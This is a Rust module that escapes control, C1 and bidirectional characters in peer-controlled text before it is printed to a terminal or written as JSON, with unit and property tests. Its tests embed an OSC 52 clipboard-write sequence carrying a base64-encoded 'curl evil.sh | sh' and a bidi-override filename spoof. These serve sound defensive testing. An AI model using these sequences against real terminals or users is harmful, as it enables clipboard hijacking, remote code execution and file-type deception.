//! Peer-controlled text on a terminal: what must never reach it raw.
//!
//! Anyone can put a value on the DHT, and any self-made identity can name a file or give a
//! refusal reason. Printed raw, such text drives the terminal: an `ESC ] 52` sequence writes the
//! clipboard, `ESC [` moves the cursor and hides lines, a C1 `CSI` (U+009B) does the same on
//! terminals that honour it, and bidirectional controls make `invoice\u{202E}fdp.exe` read as
//! `invoiceexe.pdf`. [`for_terminal`] is the one function every human line with peer text goes
//! through; [`json_line`] does the same for JSON lines (serde_json escapes C0 but writes C1,
//! DEL and bidi controls as they are). Both are pure and keep text without such characters
//! unchanged (no copy).

use std::borrow::Cow;
use std::fmt::Write as _;

/// Bidirectional formatting characters: embeddings and overrides (U+202A..U+202E), isolates
/// (U+2066..U+2069) and the left-to-right / right-to-left marks (U+200E, U+200F), plus the
/// Arabic letter mark (U+061C), which acts as one.
pub fn is_bidi_control(c: char) -> bool {
    matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' | '\u{200E}' | '\u{200F}' | '\u{061C}')
}

/// Whether `c` must not reach a terminal as it is: C0 (including newline and tab: one value,
/// one line), DEL, C1, and bidirectional controls.
pub fn is_unsafe(c: char) -> bool {
    c.is_control() || is_bidi_control(c)
}

/// `text` with every unsafe character written as a visible escape: `\x1b` for C0, DEL and
/// C1, `\u{202e}` for the others. A backslash stays as it is.
pub fn for_terminal(text: &str) -> Cow<'_, str> {
    if !text.chars().any(is_unsafe) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        if !is_unsafe(c) {
            out.push(c);
        } else if u32::from(c) <= 0xff {
            let _ = write!(out, "\\x{:02x}", u32::from(c));
        } else {
            let _ = write!(out, "\\u{{{:x}}}", u32::from(c));
        }
    }
    Cow::Owned(out)
}

/// A serialised JSON line with every unsafe character left in it (only possible inside
/// strings: serde_json already escapes C0) written as a `\uXXXX` escape, which JSON readers
/// decode to the same string.
pub fn json_line(line: &str) -> Cow<'_, str> {
    if !line.chars().any(is_unsafe) {
        return Cow::Borrowed(line);
    }
    let mut out = String::with_capacity(line.len() + 12);
    for c in line.chars() {
        if is_unsafe(c) {
            // Every unsafe character is in the Basic Multilingual Plane: one escape suffices.
            let _ = write!(out, "\\u{:04x}", u32::from(c));
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn plain_text_is_kept_without_a_copy() {
        for text in ["hello", "été 2026.tar.gz", "日本語", "a\\b", ""] {
            assert!(matches!(for_terminal(text), Cow::Borrowed(t) if t == text));
            assert!(matches!(json_line(text), Cow::Borrowed(t) if t == text));
        }
    }

    #[test]
    fn an_osc_52_clipboard_write_is_shown_not_run() {
        let attack = "\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}";
        assert_eq!(
            for_terminal(attack),
            "\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07"
        );
    }

    #[test]
    fn c0_del_c1_and_line_breaks_are_escaped() {
        assert_eq!(for_terminal("a\nb\r\tc"), "a\\x0ab\\x0d\\x09c");
        assert_eq!(for_terminal("\u{7f}\u{80}\u{9b}31m"), "\\x7f\\x80\\x9b31m");
        assert_eq!(for_terminal("\0"), "\\x00");
    }

    #[test]
    fn bidi_controls_are_escaped() {
        assert_eq!(
            for_terminal("invoice\u{202E}fdp.exe"),
            "invoice\\u{202e}fdp.exe"
        );
        for c in [
            '\u{202A}', '\u{202E}', '\u{2066}', '\u{2069}', '\u{200E}', '\u{200F}',
        ] {
            assert!(is_bidi_control(c), "{c:?}");
            assert!(!for_terminal(&c.to_string()).contains(c));
        }
        // Their neighbours are ordinary text.
        for c in ['\u{2029}', '\u{206A}', '\u{200D}', '\u{2010}'] {
            assert!(!is_bidi_control(c), "{c:?}");
        }
    }

    #[test]
    fn json_lines_stay_the_same_json() {
        let value = serde_json::json!({"data": "x\u{1b}]52;c;aGk=\u{7}\u{9b}2J\u{202e}\u{7f}y"});
        let line = value.to_string();
        let safe = json_line(&line);
        assert!(!safe.chars().any(is_unsafe), "{safe}");
        let back: serde_json::Value = serde_json::from_str(&safe).unwrap();
        assert_eq!(back, value);
    }

    proptest! {
        #[test]
        fn nothing_unsafe_survives(input in any::<String>()) {
            let shown = for_terminal(&input);
            prop_assert!(!shown.chars().any(is_unsafe));
            prop_assert!(!shown.contains(char::from(0x1b)));
            let line = serde_json::json!({"v": input}).to_string();
            let safe = json_line(&line);
            prop_assert!(!safe.chars().any(is_unsafe));
            let back: serde_json::Value = serde_json::from_str(&safe).unwrap();
            prop_assert_eq!(back["v"].as_str(), Some(input.as_str()));
        }
    }
}
